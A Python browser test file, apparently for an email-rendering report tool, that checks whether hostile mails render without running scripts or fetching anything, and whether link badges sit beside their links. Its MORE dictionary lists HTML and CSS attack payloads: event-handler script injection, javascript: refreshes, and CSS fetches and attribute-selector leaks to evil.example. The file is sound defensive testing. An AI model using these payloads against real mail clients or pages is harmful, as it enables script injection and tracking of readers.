"""The click map in a real browser: hostile mails run nothing and ask nobody, badges stand at their links."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from html import escape
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from reports.drawing.test_mail import GOES
from reports.map_world import draw, placements, read, read_anything
from server.chromium import chromium

pytestmark = pytest.mark.servers

PAGE = "http://report.example/page.html"
POLICY = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"
SAMPLES = Path(__file__).parent.parent.parent / "sample_mailings"
REAL = (
    "mimekit-xamarin3.html", "phpmime-infusionsoft-sent.html", "dcondrey-2014-be-better.html",
    "dcondrey-2014-vday.html", "mailparser-mailchimp-sent.html", "mailparser-flight-promo.html", "spamassassin-winxpnews-2002.html", "hermes-default-receipt.html",
)  # fmt: skip
OWN_MAILS = Path(__file__).parent.parent / "corpus"
OWN = (
    "components.html",
    "forwarded.html",
    "interactive.html",
    "old-letter.html",
    "one-line.html",
    "outlook-button.html",
)
NEAR = 8  # pixels
KERNING = 2  # pixels that letters move when something without width stands between them
LATER = 400  # milliseconds: what a mail does by itself is done by then
RUN = "frameElement.ran=1"

# What only a browser shows: styles that fetch, and what a person touches.
MORE = {
    "an import in a style": "<style>@import 'https://evil.example/a.css';@import url(//evil.example/b.css);</style>",
    "a picture in a style": "<p style='background:url(https://evil.example/a)'>x<p style=\"background:url('//evil.example/b')\">y",
    "a picture behind escapes": "<p style='background:u\\72l(https://evil.example/a)'>x</p><style>p{background:\\75rl(//evil.example/b)}</style>",
    "a set of pictures": "<p style='background:image-set(\"https://evil.example/a\" 1x)'>x</p>",
    "a font": "<style>@font-face{font-family:x;src:url(https://evil.example/a)}p{font-family:x}</style><p>x",
    "a picture of a list, a border and a pointer": "<ul style='list-style:url(//evil.example/a)'><li>x</ul><p style='border:9px solid;border-image:url(//evil.example/b);cursor:url(//evil.example/c),auto'>x",
    "words that are a picture": "<style>p::before{content:url(https://evil.example/a)}</style><p>x",
    "a picture in a variable": "<style>:root{--a:url(https://evil.example/a)}p{background:var(--a)}</style><p>x",
    "a picture in a style that a string hides": "<style>a{content:\"}p{background:url(https://evil.example/a)}\n}p{background:url(https://evil.example/b)}</style><p>x",
    "a picture in a style of a drawing": "<svg><style>rect{mask:url(https://evil.example/a#b);fill:url(//evil.example/c#d)}</style><rect width=9 height=9 /></svg>",
    "a picture in widths, names and layers": "<style>@media all{@supports(top:0){@layer x{p{background:url(//evil.example/a)}}}}</style><p>x",
    "a value that a selector sends": "<style>input[value^=a]{background:url(//evil.example/a)}</style><input value=ab>",
    "a link that is clicked": "<a href=https://evil.example target=_top>x</a><a href='javascript:frameElement.ran=1'>y</a><a href=https://evil.example target=_blank>z</a>",
    "an area that is clicked": "<img usemap=#m width=9 height=9><map name=m><area coords='0,0,9,9' href=https://evil.example target=_top></map>",
    "a form that is sent": "<form action=https://evil.example target=_top><button>x</button><input type=submit></form>",
    "a form that is sent from afar": "<form id=f action=https://evil.example></form><button form=f formaction=https://evil.example/b>x</button>",
    "a label that sends": "<form action=https://evil.example><input type=submit id=s></form><label for=s>x</label>",
    "a page that is left at once": "<meta http-equiv=refresh content='0;url=https://evil.example'><meta http-equiv=refresh content='0;url=javascript:frameElement.ran=1'>",
    "a heading of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline'\"><script>frameElement.ran=1</script>",
    "a frame that leads away": "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>parent.frameElement.ran=1</script>'></iframe>",
    "a picture that is loaded ahead": "<link rel=preload as=image href=https://evil.example/a><link rel=prefetch href=https://evil.example/b>",
    "a report of the policy": "<meta http-equiv=Content-Security-Policy content='default-src none; report-uri https://evil.example'>",
    "a drawing that begins by itself": "<svg onload=frameElement.ran=1><animate onbegin=frameElement.ran=1 attributeName=x dur=1s></svg>",
    "details that open": "<details ontoggle=frameElement.ran=1 open><summary onclick=frameElement.ran=1>x</summary>y</details>",
    "an animation that ends": "<style>@keyframes a{from{top:0}to{top:1px}}</style><p style='animation:a 1ms' onanimationend=frameElement.ran=1>x",
    "a text area that moves": "<textarea autofocus onfocus=frameElement.ran=1></textarea><input autofocus onfocus=frameElement.ran=1>",
}  # fmt: skip
HOSTILE = {**{name: html.replace("alert(1)", RUN) for name, html in GOES.items()}, **MORE}

TOUCH = """() => { for (const one of document.querySelectorAll('*')) {
  for (const kind of ['mouseover', 'mousedown', 'pointerdown', 'focus', 'keydown', 'toggle', 'load', 'error'])
    one.dispatchEvent(new Event(kind, {bubbles: true}));
  if (one.focus) one.focus();
  if (one.click) one.click();
} }"""

# [keys, how far the badge is from the nearest of its link's own boxes (where these are empty, for what is in it floats
# say, from what is in it), whether it is displayed]
DISTANCES = """() => [...document.querySelectorAll('span[data-placement]')].map(badge => {
  const box = badge.getBoundingClientRect();
  let boxes;
  if (badge.parentElement.closest('a, area, foreignObject') || badge.parentElement.localName.startsWith('v:')) {
    const link = badge.closest('a') || badge.parentElement;
    const own = [...link.getClientRects()].filter(one => one.width && one.height);
    boxes = own.length ? own : [link, ...link.querySelectorAll('*')]
      .filter(one => !one.closest('span[data-placement], foreignObject')).flatMap(one => [...one.getClientRects()]);
  }
  if (badge.style.positionAnchor) {
    let picture = badge;
    while (picture.localName !== 'img') picture = picture.nextElementSibling;
    const area = [...document.querySelectorAll('area')].find(one => one.dataset.is === badge.dataset.placement);
    const [left, top] = [picture.getBoundingClientRect().left, picture.getBoundingClientRect().top];
    const numbers = area.coords.split(',').map(Number), [across, down] = [0, 1].map(k => numbers.filter((_, i) => i % 2 === k));
    boxes = [area.shape === 'circle'
      ? new DOMRect(left + numbers[0] - numbers[2], top + numbers[1] - numbers[2], 2 * numbers[2], 2 * numbers[2])
      : new DOMRect(left + Math.min(...across), top + Math.min(...down),
                    Math.max(...across) - Math.min(...across), Math.max(...down) - Math.min(...down))];
  }
  const far = boxes.map(one => Math.hypot(Math.max(one.left - box.right, box.left - one.right, 0),
                                          Math.max(one.top - box.bottom, box.top - one.bottom, 0)));
  const seen = badge.checkVisibility({opacityProperty: true, visibilityProperty: true, contentVisibilityAuto: true});
  const pill = badge.querySelector('b').getBoundingClientRect();
  const root = document.documentElement, hidden = root.scrollWidth - root.clientWidth;
  const rightToLeft = [root, document.body].some(one => getComputedStyle(one).direction === 'rtl');
  const left = rightToLeft ? -hidden : 0, right = rightToLeft ? root.clientWidth : root.scrollWidth;
  const inside = pill.left >= left && pill.right <= right && pill.top >= 0 && pill.bottom <= root.scrollHeight;
  return [badge.dataset.placement, Math.min(...far), seen && pill.width > 0 && box.height > 0 && inside];
})"""


class Distance(NamedTuple):
    keys: str
    pixels: float
    displayed: bool


class Window:
    """A page in the browser, and what it asked for besides itself: (name of the frame, address)."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.asked: list[tuple[str, str]] = []
        self.html = ""
        self.context.route("**/*", self._answer)
        self.context.on("page", lambda opened: self.asked.append(("", f"a window: {opened.url}")))
        self.page.on("dialog", self._dialog)

    def show(self, html: str, *, width: int = 1000) -> Any:
        """The page with this HTML, anew."""
        self.html = html
        self.page.set_viewport_size({"width": width, "height": 900})
        self.page.goto("about:blank")
        self.asked.clear()
        self.page.goto(PAGE)
        return self.page

    def later(self) -> None:
        """What mails do by themselves has been done."""
        self.page.wait_for_timeout(LATER)

    def touch(self) -> None:
        """Everything in every frame is touched and clicked."""
        for frame in self.page.frames[1:]:
            frame.evaluate(TOUCH)
        self.later()

    def acted(self) -> set[int]:
        """The frames whose mail ran a script or asked for something."""
        ran: list[int] = self.page.evaluate(
            "[...document.querySelectorAll('iframe')].flatMap((one, number) => one.ran ? [number] : [])"
        )
        return {*ran, *(int(name[1:]) for name, _ in self.asked if name.startswith("f"))}

    def _answer(self, route: Any) -> None:
        if route.request.url == PAGE:
            route.fulfill(body=self.html, content_type="text/html; charset=utf-8")
        else:
            self.asked.append((route.request.frame.name, route.request.url))
            route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.asked.append(("", f"a dialog: {dialog.message}"))
        dialog.dismiss()


@pytest.fixture(scope="module")
def window() -> Iterator[Window]:
    with chromium() as browser:
        yield Window(browser)


def framed(mails: Sequence[str], attributes: str, *, policy: str = POLICY) -> str:
    frames = "".join(
        f'<iframe name="f{number}" {attributes} srcdoc="{escape(mail)}"></iframe>' for number, mail in enumerate(mails)
    )
    return f'<!doctype html><meta charset="utf-8">{policy}<style>iframe{{width:100%;height:880px;border:0}}</style>{frames}'


def test_hostile_mails_would_act_if_they_were_shown_as_they_are(window: Window) -> None:
    window.show(framed(list(HOSTILE.values()), "", policy=""))
    window.later()
    found = {list(HOSTILE)[number] for number in window.acted()}
    assert len(found) >= 40, sorted(set(HOSTILE) - found)


# Each barrier alone holds; in the page all of them stand behind one another.
BARRIERS = {
    "as in the page": ('sandbox=""', POLICY, True),
    "the drawing without a sandbox, without any policy": ("", "", False),
    "the drawing in a page without a policy": ("", "", True),
}


@pytest.mark.parametrize("case", BARRIERS)
def test_hostile_mails_run_nothing_and_ask_nobody(window: Window, case: str) -> None:
    attributes, policy, own_policy = BARRIERS[case]
    mails = []
    for html in HOSTILE.values():
        parts = read_anything(html)
        srcdoc = draw(parts, placements(parts)).srcdoc
        if not own_policy:
            srcdoc = srcdoc.replace(srcdoc[srcdoc.index("<meta") : srcdoc.index("<meta name")], "", 1)
            assert "Content-Security-Policy" not in srcdoc
        mails.append(srcdoc)
    page = window.show(framed(mails, attributes, policy=policy))
    window.later()
    assert len(page.frames) == len(mails) + 1
    window.touch()
    assert [list(HOSTILE)[number] for number in window.acted()] == []
    assert window.asked == []
    assert page.url == PAGE
    assert len(page.frames) == len(mails) + 1


def test_hostile_mails_with_pictures_ask_for_pictures_alone(window: Window) -> None:
    mails = [draw(read_anything(html), [], images=True).srcdoc for html in HOSTILE.values()]
    policy = POLICY.replace("'none';", "'none'; img-src https: http:;")
    page = window.show(framed(mails, 'sandbox=""', policy=policy))
    for _ in range(60):  # until pictures have been asked for, however busy the machine is
        window.later()
        if window.asked:
            break
    window.touch()
    assert not page.evaluate("[...document.querySelectorAll('iframe')].some(one => one.ran)")
    asked = {address for _, address in window.asked}
    assert asked and all(address.startswith(("https://", "http://")) for address in asked)
    assert not [address for address in asked if address.endswith(".css")]
    assert page.url == PAGE


def distances(window: Window, html: bytes | str, width: int) -> list[Distance]:
    """How far each badge is from its link, in the frame as it stands in the page."""
    parts = read(html)
    placed = placements(parts)
    drawn = draw(parts, placed)
    areas = iter([one.key for one in placed if one.kind == "area"])
    first, *others = drawn.srcdoc.split("<area")
    marked = first + "".join(f'<area data-is="{next(areas, "")}"{rest}' for rest in others)
    page = window.show(framed([marked], 'sandbox=""'), width=width)
    found = [Distance(*one) for one in page.frames[1].evaluate(DISTANCES)]
    assert window.asked == []
    assert sorted(key for one in found for key in one.keys.split()) == sorted(
        row.placement.key for row in drawn.rows if row.badge
    )
    return found


def links() -> dict[str, tuple[str, int]]:
    """What links look like in mails, with the number of badges that are displayed in a wide window."""
    words = "word " * 30
    return {
        "a picture at the top left of a mail without a margin": (
            "<body style='margin:0;padding:0'><table width=100% cellpadding=0 cellspacing=0><tr><td><a href=https://a.example>"
            "<img width=600 height=200 alt=x style='display:block;border:0'></a></table><p>y",
            1,
        ),
        "links at the edges of a mail without a margin": (
            "<style>html,body{margin:-9px 0 0!important}body{margin:0!important;position:relative;top:-20px}html{border:0!important;"
            "padding:0!important}</style><a href=https://a.example>x</a><a href=https://b.example style='position:absolute;left:0;"
            "top:60px'>y</a><a href=https://c.example style='position:absolute;right:0;top:0'>z</a>"
            "<a href=https://d.example style='position:absolute;right:0;bottom:0'>w</a>",
            4,
        ),
        "links at the edges of boxes that cut off what juts out": (
            "<body style='margin:0'><div style='position:relative;overflow:hidden'><a href=https://a.example style='display:block'>x</a>"
            "</div><div style='position:relative;overflow:hidden'><a href=https://b.example style='float:left'>y</a></div>",
            2,
        ),
        "links at the edges of a mail from right to left": (
            "<html dir=rtl><body style='margin:0'><table width=100% cellspacing=0 cellpadding=0><tr><td><a href=https://a.example>x</a>"
            "<td align=left><a href=https://b.example>y</a></table>",
            2,
        ),
        "links at the edges of a table from right to left": (
            "<body style='margin:0'><table width=100% dir=rtl cellspacing=0 cellpadding=0><tr><td><a href=https://a.example>link</a>"
            "<td align=left><a href=https://b.example>link</a></table>",
            2,
        ),
        "a link in words": (f"<p>{words}<a href=https://a.example>x</a> {words}", 1),
        "a link of several lines": (f"<p>{words}<a href=https://a.example>{words * 4}</a> {words}", 1),
        "a link without words": ("<p>a <a href=https://a.example></a> b", 1),
        "a link that is a picture": ("<a href=https://a.example><img width=200 height=100 alt=x></a>", 1),
        "a link that is a high picture in a line": (
            "<p>word <a href=https://a.example><img width=200 height=300 alt='Click here'></a> word",
            1,
        ),
        "a link that is a picture of words without a size": (
            "<div style='width:60px'><a href=https://a.example><img alt='Click here and read more'></a></div>",
            1,
        ),
        "a link that is a picture in the middle": (
            "<center><a href=https://a.example><img width=200 height=100 alt=x style='display:block;margin:auto'></a></center>",
            1,
        ),
        "a button in the middle": (
            "<table width=100%><td align=center><a href=https://a.example style='display:inline-block;width:220px;line-height:46px;text-align:center'>x</a></table>",
            1,
        ),
        "links beside a high picture": (
            "<p><img width=90 height=90 alt=x><a href=https://a.example>x</a> <a href=https://b.example style='position:relative'>y</a> "
            "<a href=https://c.example><img width=9 height=9 alt=x> z</a>",
            3,
        ),
        "links in a line with a high box": (
            "<p><a href=https://a.example>x <b>y</b></a> <span style='display:inline-block;height:90px'></span>"
            "<a href=https://b.example style='position:relative'><img width=9 height=9 alt=x></a>",
            2,
        ),
        "a link beside a high picture whose own picture is hidden": (
            "<style>.no{display:none}</style><p><img width=90 height=90 alt=x><a href=https://a.example><img class=no alt=x>y</a>",
            1,
        ),
        "a link that a browser cuts into several": (
            "<p><a href=https://a.example>x<p>y<p>z<div style='height:300px'></div></a>w",
            1,
        ),
        "a high line": ("<p style='line-height:46px'><a href=https://a.example style='font-size:12px'>x</a>", 1),
        "a link around a table": ("<a href=https://a.example style='display:block'><table><tr><td>x</table></a>", 1),
        "a link that is a table's, where none may stand": (
            "<table><a href=https://a.example>x</a><tr><td>y</table>",
            1,
        ),
        "a link in a row of boxes": (
            "<div style='display:flex;justify-content:space-between'><a href=https://a.example>x</a><a href=https://b.example>y</a></div>",
            2,
        ),
        "a link that is a box of boxes": (
            "<a href=https://a.example style='display:flex;align-items:center;justify-content:center;height:90px'>x</a>",
            1,
        ),
        "links that swim": (
            "<a href=https://a.example style='float:right'>x</a><a href=https://b.example style='position:absolute;left:300px;top:200px'>y</a>",
            2,
        ),
        "links whose words are moved out of sight, and one without a box": (
            "<style>a{display:block;width:120px;height:40px}</style><div style='margin:30px;text-indent:-9999px'>"
            "<a href=https://a.example>x</a></div><a href=https://b.example style='text-indent:-60px'>y</a>"
            "<p>word <a href=https://c.example style='display:contents'><span>z</span></a>"
            "<style>@media (min-width:9px){p .no,td:link{display : Contents!important}}</style><p>word <a class=no href=https://d.example>z</a>",
            4,
        ),
        "from right to left": ("<p dir=rtl>مرحبا <a href=https://a.example>مرحبا</a> مرحبا", 1),
        "a link that is written upwards": (
            "<div style='writing-mode:vertical-rl;height:200px;margin:9px'>x <a href=https://a.example>y</a></div>",
            1,
        ),
        "badges that the mail's own style would hide": (
            "<style>span,b,a *{display:none!important;position:static!important;font-size:0!important;margin:99px!important;"
            "visibility:hidden!important;transform:translate(300px)!important;animation:x 1s}"
            "span::before{content:'no';position:fixed;inset:0}</style><p><a href=https://a.example>x</a>",
            1,
        ),
        "areas of a picture in the middle, whose width is its cell's": (
            "<table width=100%><td align=center><img usemap=#m width=400 height=100 style='display:block' alt=x><map name=m>"
            "<area coords='0,0,99,99' href=https://a.example><area shape=circle coords='250,50,30' href=https://b.example>"
            "<area shape=poly coords='300,0,399,0,399,99' href=https://c.example></map></table>",
            3,
        ),
        "areas of a picture in words": (
            "<p style='text-align:center'>word <img usemap=#m width=400 height=100 alt=x> word<map name=m>"
            "<area coords='100,0,199,99' href=https://a.example></map>",
            1,
        ),
        "links of a drawing": (
            "<p>x <svg width=300 height=200 viewBox='0 0 300 200'><a xlink:href=https://a.example><rect x=200 y=100 width=80 height=50 /></a>"
            "<a href=https://b.example><text x=20 y=150>y</text></a>"
            "<g transform='translate(100,20)'><a href=https://c.example><circle cx=20 cy=20 r=10 /></a></g></svg>",
            3,
        ),
        "VML that is no comment": ("<v:roundrect href=https://a.example>x</v:roundrect>", 1),
        "a link that is hidden by a class": (
            "<style>@media (max-width:500px){.small{display:block!important}}</style>"
            "<p class=small style='display:none'><a href=https://a.example>x</a></p><a href=https://b.example>y</a>",
            1,
        ),
        "links whose box is behind a variable, a value of another element or a condition": many(
            ":root{--a:contents;--b:none;--c:hidden;--d:fixed}.b{display:var(--b)!important}.c{visibility:var(--c)}"
            ".e{display:var(--no,contents)!important}.f{display:contents}.f a{display:inherit}.g a{all:inherit!important}"
            "@supports (display:grid){p a.h{display:none!important}}.k{container-type:inline-size}"
            "@container (min-width:1px){.k a{display:none}}@container (max-width:1px){.l{display:none}}"
            "@supports (display:no){.l{visibility:hidden}}.m{& a{display:none!important}@media all{display:none}}",
            "<a style='display:var(--a)'>",
            "<a class=b>",
            "<p style='display:var(--b)'><a>",
            "<a class=c>",
            "<a class=e>",
            "<div class=f><a>",
            "<div class=f><p class=g style='display:inherit'><a>",
            "<a class=h>",
            "<div class=k><a>",
            "<a class=l>",
            "<p class=m><a>",
            "<a style='position:var(--d);left:20px;top:300px'>",
        ),
        "links that are hidden by more than a name, or where one shows them again": many(
            "p > a:first-child.a{display:none!important}body .b p{display:none}a[title=c]{visibility:hidden}"
            ".d{display:none}#no:checked ~ .d{display:block}.e{display:none}.e.f{display:block}.g{display:none}",
            "<p><a class=a>",
            "<div class=b><p><a>",
            "<a title=c>",
            "<p class=d><a>",
            "<p class='e f'><a>",
            "<p class=g style='display:block'><a>",
        ),
        "links that are see-through, cut off, without a size or far away": many(
            ".a{opacity:0!important}.b{opacity:calc(1 - 1)}.c{clip-path:inset(50%)}.d{position:absolute;clip:rect(0,0,0,0)}"
            ".e a{display:inline-block;transform:scale(0)}.f{content-visibility:hidden}.g{filter:opacity(0)}.h{zoom:0.001}"
            "@keyframes k{from,to{opacity:0;visibility:hidden;display:none}}.i{animation:k 1s infinite}.j{scale:0}"
            ".k{position:absolute;left:-9999px}.l{margin-left:-2000px!important}.m{max-height:var(--no,0);overflow:hidden}",
            *(f"<p class={one}><a>" for one in "abcdefghij"),
            "<a class=k>",
            "<a class=l style='display:block'>",
            "<p class=m><a>",
        ),
    }


def many(style: str, *links: str) -> tuple[str, int]:
    """Links that stand in elements of their own under one style, all of which are displayed."""
    whole = "".join(
        f"<div>word {one.replace('<a', f'<a href=https://{number}.example')}go</a> word</div>"
        for number, one in enumerate(links)
    )
    return f"<style>{style}</style>{whole}", len(links)


@pytest.mark.parametrize("case", links())
def test_badges_stand_at_every_kind_of_link(window: Window, case: str) -> None:
    html, displayed = links()[case]
    found = distances(window, html, 1000)
    assert sum(one.displayed for one in found) == displayed
    assert [one for one in found if one.displayed and one.pixels > NEAR] == []


@pytest.mark.parametrize("width", [1200, 380], ids=lambda width: f"in {width} pixels")
@pytest.mark.parametrize("style", ["display:block", "display:block;margin:auto", ""])
def test_a_badge_stands_at_the_picture_that_begins_its_link_and_not_where_the_line_before_ends(
    window: Window, style: str, width: int
) -> None:
    distances(
        window,
        "<table width=100%><td align=center><b>THE V-DAY DEAL OF THE YEAR</b> <a href=https://a.example>"
        f"<img width=90 height=20 alt=x style='{style}'></a> INCLUDES FREE SHIPPING</table>",
        width,
    )
    corners = """() => ['span[data-placement]', 'img'].map(
      one => { const box = document.querySelector(one).getBoundingClientRect(); return [box.left, box.top] })"""
    badge, picture = window.page.frames[1].evaluate(corners)
    assert max(abs(one - other) for one, other in zip(badge, picture, strict=True)) <= NEAR


@pytest.mark.parametrize("width", [1000, 380], ids=lambda width: f"in {width} pixels")
def test_badges_stand_at_their_links_in_the_samples(window: Window, width: int) -> None:
    for path in sorted(SAMPLES.glob("*.html")):
        found = distances(window, path.read_bytes(), width)
        assert found and all(one.displayed for one in found), path.name
        assert [one for one in found if one.pixels > NEAR] == [], path.name


@pytest.mark.parametrize("width", [1000, 380], ids=lambda width: f"in {width} pixels")
@pytest.mark.parametrize("name", OWN)
def test_badges_stand_at_their_links_in_mails_as_the_world_writes_them(window: Window, name: str, width: int) -> None:
    found = distances(window, (OWN_MAILS / name).read_bytes(), width)
    assert len([one for one in found if one.displayed]) >= 3
    assert [one for one in found if one.displayed and one.pixels > NEAR] == []


@pytest.mark.parametrize("width", [1000, 380], ids=lambda width: f"in {width} pixels")
@pytest.mark.parametrize("name", REAL)
def test_badges_stand_at_their_links_in_real_mails(window: Window, corpus: Path, name: str, width: int) -> None:
    found = distances(window, (corpus / "mailings" / name).read_bytes(), width)
    assert len([one for one in found if one.displayed]) >= 3
    assert [one for one in found if one.displayed and one.pixels > NEAR] == []


BOXES = """() => [...document.body.querySelectorAll('*')].filter(one => !one.closest('span[data-placement]'))
  .map(one => { const box = one.getBoundingClientRect(); return [one.localName, box.x, box.y, box.width, box.height]; })"""


@pytest.mark.parametrize("width", [1000, 380], ids=lambda width: f"in {width} pixels")
def test_badges_move_nothing_in_the_samples(window: Window, width: int) -> None:
    for path in sorted(SAMPLES.glob("*.html")):
        parts = read(path.read_bytes())
        with_badges, without = (
            window.show(framed([draw(parts, placed).srcdoc], 'sandbox=""'), width=width).frames[1].evaluate(BOXES)
            for placed in (placements(parts), [])
        )
        assert [one[0] for one in with_badges] == [one[0] for one in without], path.name
        moved = [
            one
            for one, other in zip(with_badges, without, strict=True)
            if any(abs(here - there) > KERNING for here, there in zip(one[1:], other[1:], strict=True))
        ]
        assert moved == [], path.name


def test_blank_pictures_have_their_size_and_say_their_alternative_text(window: Window) -> None:
    html = (
        "<img src=a width=120 height=40 alt='A long text that is more than the picture holds'>"
        "<img src=b width=30 height=20><img src=c style='display:block;width:200px;height:50px' alt=x>"
    )
    page = window.show(framed([draw(read(html), []).srcdoc], 'sandbox=""'))
    sizes = page.frames[1].evaluate(
        "[...document.images].map(one => [one.getBoundingClientRect().width, one.getBoundingClientRect().height, one.alt])"
    )
    assert sizes == [
        [120, 40, "A long text that is more than the picture holds"], [30, 20, ""], [200, 50, "x"],
    ]  # fmt: skip


def test_links_look_like_links_though_they_lead_nowhere(window: Window) -> None:
    html = "<style>.b:link{color:#ff0000}</style><a href=https://a.example>x</a><a class=b href=https://b.example>y</a><a name=c>z</a>"
    page = window.show(framed([draw(read(html), []).srcdoc], 'sandbox=""'))
    looks = page.frames[1].evaluate(
        "[...document.querySelectorAll('a')].map(one => [getComputedStyle(one).color, getComputedStyle(one).textDecorationLine])"
    )
    assert looks == [["rgb(0, 0, 238)", "underline"], ["rgb(255, 0, 0)", "underline"], ["rgb(0, 0, 0)", "none"]]
